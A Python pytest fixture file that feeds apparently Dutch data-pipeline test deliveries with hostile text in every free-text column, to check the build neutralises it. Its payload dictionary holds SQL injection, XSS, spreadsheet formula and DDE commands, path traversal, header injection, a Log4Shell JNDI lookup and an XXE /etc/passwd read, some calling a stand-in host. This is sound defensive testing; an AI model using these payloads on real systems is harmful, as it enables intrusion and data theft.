"""Deliveries that are right, but for their texts: each column that may hold any text tries to be something else.

Every text ends in a mark of its own, `kw<kind>_<column>`: by that it is found wherever it went.
"""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
from collections.abc import Callable, Iterator, Sequence
from pathlib import Path

import pytest

from app.commissie.model import Inhoud, Onderwerp
from app.commissie.openen import open_opslag
from pipelines.afspraken.warehouse.verbinding import INGETROKKEN
from pipelines.levering.kolommen.vertaling import KOLOMMEN_YML

# By what it wants to be. No line ends: those are refused in a title, and tried in the summary of a story.
KWAAD = {
    "sql": "x'); drop table waarneming; --",
    "html": '"><img src=x onerror="window.geraakt=1"><script>window.geraakt=1</script>',
    "formule": '=HYPERLINK("http://kwaad.invalid/?"&A1)',
    "dde": "+cmd|' /C calc'!A0",
    "pad": "../../../../tmp/geraakt",
    "kop": "x%0d%0aSet-Cookie: geraakt=1",
    "log": "%s%n${jndi:ldap://kwaad.invalid/a}",
    "sjabloon": '{{7*7}}${7*7} #eval("6*7") #include "/etc/passwd" {0.__class__}',
    "tekens": "[klik](javascript:alert(1)) ![x](http://kwaad.invalid/p.png) $x^2$ :material/home: `c`",
    "xml": "]]></text><!ENTITY e SYSTEM 'file:///etc/passwd'>&e;&#106;",
}
_MERK = re.compile(r"kw([a-z]+)_([a-z]+)")
_LEVERING = "bron: {bron}\nleverancier: {leverancier}\nperiode: '2021'\nontvangen: 2025-06-30\nherkomst: {herkomst}\n"
_DEKKING = "periode,peildatum,regio_code,branche_code,medewerkers_aangesloten,medewerkers_totaal\n" + "".join(
    f"2021,2022-06-30,{regio},TOTAAL,{leden},{alle}\n"
    for regio, leden, alle in (("NL01", 680000, 1000000), ("RA0101", 6800, 10000), ("WGO01", 13000, 20000))
)
_CIJFER = ("id,indicator_id,categorie,uitsplitsing,regio_code,branche_code,periode,waarde,precisie,populatie,bron,"
           "geciteerd_door,vindplaats,kwaliteit,opmerking")  # fmt: skip


_ACTIVITEIT = ("activiteit_id", "jaar", "wgo_code", "pijler", "titel", "doelgroep", "status", "deelnemers")
SCORE = Onderwerp("score", "RA0101", 2026, "governance/verbreden")


@pytest.fixture(scope="session")
def kwaad(bouw_eens: Callable[[str, Path], Path], tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Build of these deliveries, with every check; what the committee wrote stands beside it."""
    raw = tmp_path_factory.mktemp("kwaad") / "raw"
    write_deliveries(raw)
    with pytest.MonkeyPatch.context() as anders:
        anders.setattr("pipelines.levering.toets.leesproces.is_small", lambda _levering: True)
        warehouse = bouw_eens("kwaad", raw)
    with pytest.MonkeyPatch.context() as anders:
        anders.delenv("REGIOMONITOR_COMMISSIE_URL", raising=False)
        opslag = open_opslag(warehouse)
        for versie, soort in enumerate(KWAAD):
            # A name has eighty characters at most.
            opslag.save(
                SCORE, Inhoud(f"Regel.\n{bad(soort, 'notitie')}", 2), wie=KWAAD[soort][:80], rol="commissie",
                gebaseerd_op=versie,
            )  # fmt: skip
    return warehouse


def bad(soort: str, kolom: str) -> str:
    """Return the text of this kind for this column."""
    return f"{KWAAD[soort]} kw{soort}_{kolom}"


def marks(tekst: str) -> set[tuple[str, str]]:
    """Return the kinds and columns whose texts, or a part of them, stand here."""
    return set(_MERK.findall(tekst))


def write_deliveries(raw: Path) -> None:
    """Write the deliveries: one row of each table for each kind."""
    _write(raw, "pfzw_dekking", {"dekking": _DEKKING})
    _write(raw, "verhalen", {"verhalen": _csv(
        "verhaal_id,soort,pijler,actielijn,regio_code,branche_code,titel,samenvatting,stem,aantal,bron,vindplaats,jaar",
        (("V-" + s, "goed_voorbeeld", "werken_behoud", "werken", "RA0101", "", bad(s, "titel"),
          f"Een regel.\n{bad(s, 'samenvatting')}", "naaste", "3", bad(s, "verhaalbron"), bad(s, "plaats"), "2021")
         for s in KWAAD))}, leverancier=bad("html", "leverancier"))  # fmt: skip
    for soort in KWAAD:
        weg = raw / "verhalen" / f"weg-{soort}"
        shutil.copytree(raw / "verhalen" / "2021", weg)
        (weg / INGETROKKEN).write_text(json.dumps({"op": "2025-07-01", "reden": bad(soort, "reden")}), "utf-8")
    _write(raw, "raat", {
        "acties": _csv(
            "actie_id,regio_code,actielijn,soort,titel,trekker,start,eind,status",
            ((bad(s, "actieid"), "RA0101", "werken", "meer", bad(s, "actie"), bad(s, "trekker"), "2022-01-01",
              "2026-01-01", bad(s, "status")) for s in KWAAD)),
        "ambities": _csv(
            "regio_code,indicator_id,nuljaar,nulwaarde,doeljaar,doelwaarde,bron",
            (("RA0101", "dekkingsgraad", "2021", "0.6", str(2025 + nummer), "0.8", bad(s, "ambitie"))
             for nummer, s in enumerate(KWAAD))),
    }, leverancier=bad("formule", "leverancier"))  # fmt: skip
    # Under names of the supplier's own, two of which are left out.
    kop = [bad(s, "kop") for s in KWAAD]
    _write(raw, "srs_activiteiten", {"activiteiten": _csv(kop, (
        (bad(s, "activiteitid"), "2021", "WGO01", "werken_behoud", bad(s, "activiteit"), bad(s, "doelgroep"), "loopt",
         "12", bad(s, "weg"), bad(s, "weg")) for s in KWAAD))}, leverancier=bad("tekens", "leverancier"), kolommen={
        "activiteiten": {"kolommen": dict(zip(kop, _ACTIVITEIT, strict=False)), "weglaten": kop[len(_ACTIVITEIT):]},
    })  # fmt: skip
    _write(raw, "gepubliceerd", {"cijfers": _csv(_CIJFER, (
        (bad(s, "cijferid"), "vacaturegraad", "", "", regio, "TOTAAL", str(2010 + nummer), "32.5", "exact",
         bad(s, "populatie"), bad(s, "cijferbron"), bad(s, "citaat"), bad(s, "vindplaats"), "primair",
         bad(s, "opmerking"))
        for regio in ("NL01", "RA0101") for nummer, s in enumerate(KWAAD)), uniek=True)}, herkomst="gepubliceerd",
        leverancier=bad("sjabloon", "leverancier"))  # fmt: skip


def _csv(kop: str | Sequence[str], rijen: Iterator[Sequence[str]], *, uniek: bool = False) -> str:
    tekst = io.StringIO()
    schrijver = csv.writer(tekst, lineterminator="\n")
    schrijver.writerow(kop.split(",") if isinstance(kop, str) else kop)
    schrijver.writerows((f"{nummer} {rij[0]}", *rij[1:]) if uniek else rij for nummer, rij in enumerate(rijen))
    return tekst.getvalue()


def _write(
    raw: Path, bron: str, tabellen: dict[str, str], *, herkomst: str = "levering", leverancier: str = "Iemand",
    kolommen: dict[str, object] | None = None,
) -> None:  # fmt: skip
    map_ = raw / bron / "2021"
    map_.mkdir(parents=True)
    # What is JSON is YAML too: nothing in it ends a text.
    beschrijving = _LEVERING.format(bron=bron, herkomst=herkomst, leverancier=json.dumps(leverancier))
    if kolommen is not None:
        beschrijving += f"kolommen: {KOLOMMEN_YML}\n"
        (map_ / KOLOMMEN_YML).write_text(json.dumps(kolommen), encoding="utf-8")
    (map_ / "levering.yml").write_text(beschrijving, encoding="utf-8")
    for tabel, tekst in tabellen.items():
        (map_ / f"{tabel}.csv").write_text(tekst, encoding="utf-8")
